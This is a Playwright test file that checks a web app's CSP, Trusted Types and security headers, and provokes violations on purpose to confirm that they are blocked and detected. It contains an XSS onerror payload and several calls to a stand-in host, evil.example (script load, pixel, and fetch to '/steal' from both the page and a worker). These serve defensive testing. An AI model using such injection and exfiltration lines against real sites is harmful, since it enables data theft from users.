/**
 * Security headers journey (issue 22): the served build sends the strict Content-Security-Policy with
 * Trusted Types and the other headers (scripts/lib/security-headers.cjs), the browser enforces them,
 * and the journeys' violation check (e2e/lib/csp.ts) sees what is refused. Every other journey fails
 * on any violation; these provoke some on purpose.
 */
import { test, expect } from './fixtures';
import { waitForApp } from './lib/page';

test('[SEC] every document, worker script and file carries the CSP and the security headers; a hashed script or stylesheet the page runs, nosniff and Referrer-Policy', async ({
  page,
  request,
  app,
}) => {
  const home = await page.goto('/');
  const headers = home!.headers();
  const csp = headers['content-security-policy'] ?? '';
  const directives = Object.fromEntries(
    csp.split(';').map((d) => {
      const [name = '', ...sources] = d.trim().split(/\s+/);
      return [name, sources];
    }),
  );
  expect(directives['default-src']).toEqual(["'self'"]);
  expect(directives['script-src']?.[0]).toBe("'self'");
  expect(directives['script-src']?.filter((s) => s.startsWith("'sha256-"))).toHaveLength(1);
  expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*(?!\.)/);
  expect(directives['connect-src']).toContain(app.apiUrl);
  expect(directives['object-src']).toEqual(["'none'"]);
  expect(directives['base-uri']).toEqual(["'none'"]);
  expect(directives['frame-ancestors']).toEqual(["'none'"]);
  expect(directives['require-trusted-types-for']).toEqual(["'script'"]);
  expect(directives['trusted-types']).toEqual(['flechazo', 'webpack']);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
  expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups');
  expect(headers['permissions-policy']).toContain('camera=()');

  // The workers' and the service worker's scripts get the same policy (a worker has its script's CSP).
  const sw = await request.get('/sw.js');
  const files = [...new Set((await sw.text()).match(/\/(js|css)\/[\w-]+\.[0-9a-f]{8,}\.(js|css)/g) ?? [])];
  const workers = files.filter((f) => /-worker\.[0-9a-f]+\.js$/.test(f));
  expect(workers.length, 'the precache lists the realtime worker').toBeGreaterThan(0);
  for (const file of ['/sw.js', '/runtime-config.js', '/a/client/route', ...workers]) {
    const res = await request.get(file);
    expect(res.headers()['content-security-policy'], file).toBe(csp);
  }
  // A hashed script or stylesheet the page runs: nosniff and Referrer-Policy only (a policy acts on the
  // document or worker whose answer carries it; issue 44, about 1.1 KB less per answer).
  const plain = files.filter((f) => !workers.includes(f));
  expect(plain.some((f) => f.endsWith('.js')) && plain.some((f) => f.endsWith('.css'))).toBe(true);
  for (const file of plain) {
    const h = (await request.get(file)).headers();
    expect([file, h['x-content-type-options'], h['referrer-policy']]).toEqual([file, 'nosniff', 'strict-origin-when-cross-origin']);
    expect([file, h['content-security-policy'], h['x-frame-options'], h['permissions-policy']]).toEqual([
      file,
      undefined,
      undefined,
      undefined,
    ]);
  }
});

test.describe('provoked violations', () => {
  test.use({ allowCspViolations: true });

  test('[SEC] the browser refuses HTML and script sinks without a policy, inline styles and other hosts; the check sees each', async ({
    page,
    cspViolations,
  }) => {
    await page.goto('/login');
    await waitForApp(page);
    // (Not eval: code run through the DevTools protocol, as page.evaluate is, may eval whatever the CSP says.)
    const outcome = await page.evaluate(async () => {
      const tried = (f: () => unknown) => {
        try {
          f();
          return 'ran';
        } catch (e) {
          return (e as Error).name;
        }
      };
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
      new Image().src = 'https://evil.example/pixel.png';
      return {
        innerHTML: tried(() => {
          document.createElement('div').innerHTML = '<img src=x onerror="window.__pwned = 1">';
        }),
        scriptSrc: tried(() => {
          document.createElement('script').src = 'https://evil.example/x.js';
        }),
        connect: await fetch('https://evil.example/steal').then(
          () => 'ran',
          () => 'refused',
        ),
      };
    });
    expect(outcome).toEqual({ innerHTML: 'TypeError', scriptSrc: 'TypeError', connect: 'refused' });
    await expect(page.locator('body')).toBeVisible();
    await expect
      .poll(() => cspViolations.map((v) => /^\S+ (\S+):/.exec(v)?.[1] ?? v))
      .toEqual(expect.arrayContaining(['require-trusted-types-for', 'connect-src', 'img-src', 'style-src-elem']));
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  });
});

// Workers have their own policy (their script's headers) and their own violation events, which no page
// listener sees: the e2e server's report-uri collects their reports, and the check reads them.
test('[SEC] a violation inside a worker fails the journey too', async ({ page, context }) => {
  test.fail(true, 'the automatic CSP check must fail this journey');
  await page.goto('/login');
  await waitForApp(page);
  const csp = (await page.request.get('/login')).headers()['content-security-policy'] ?? '';
  await context.route('**/probe-worker.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'Content-Security-Policy': csp },
      body: "fetch('https://evil.example/steal').catch(() => postMessage('refused'));",
    }),
  );
  const answer = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const policy = (window as unknown as { __FLECHAZO_BOOT__: { trust: { scriptURL(u: string): string } } }).__FLECHAZO_BOOT__;
        const w = new Worker(policy.trust.scriptURL('/probe-worker.js'));
        w.onmessage = (e) => resolve(String(e.data));
      }),
  );
  expect(answer).toBe('refused');
  await page.waitForTimeout(500);
});

// The check itself: a journey with a violation (and no allowCspViolations) fails, after its own steps.
test('[SEC] a journey with a CSP violation fails', async ({ page }) => {
  test.fail(true, 'the automatic CSP check must fail this journey');
  await page.goto('/login');
  await waitForApp(page);
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/pixel.png';
  });
  await page.waitForTimeout(500);
});

test.describe('a member', () => {
  test.use({ member: true });

  test("[SEC] the match's confetti draws on the main thread, no blob: worker (refused by the CSP and Trusted Types)", async ({
    page,
    account,
    demo,
  }) => {
    const channel = (account!.auth.pusher as { notificationsChannel: string }).notificationsChannel;
    await page.goto('/dashboard-recent');
    await waitForApp(page);
    // Sent once the app's realtime worker has subscribed (delivered to one connection).
    const match = { iduser: 40, apodo: 'Tincho', sexo: 1, imagen: '', message: '', messageType: 1, timestamp: Date.now() };
    await expect
      .poll(async () => ((await demo.trigger({ channel, event: 'match', data: match })) as { delivered: number }).delivered, {
        timeout: 20_000,
      })
      .toBeGreaterThan(0);
    await expect(page.getByTestId('match-modal')).toBeVisible();
    // canvas-confetti's own full-screen canvas, drawn from the page.
    await expect(page.locator('body > canvas')).toHaveCount(1, { timeout: 5_000 });
    // (The journey's automatic check then finds no CSP violation.)
  });
});
